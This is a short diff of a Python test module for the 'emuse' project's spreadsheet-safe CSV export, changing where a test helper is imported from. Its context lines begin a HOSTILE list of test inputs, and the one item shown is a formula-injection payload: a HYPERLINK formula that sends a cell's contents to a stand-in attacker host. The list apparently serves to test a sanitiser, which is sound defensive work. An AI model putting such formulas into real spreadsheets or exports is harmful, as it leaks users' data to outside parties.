@@ -6,12 +6,12 @@ import csv
 import io
 
 import pytest
-from conftest import mood
 
 from emuse import cli
 from emuse.history import charts
 from emuse.history.schema import spreadsheet_safe
 from emuse.history.store import HistoryStore
+from tests.support.moods import mood
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
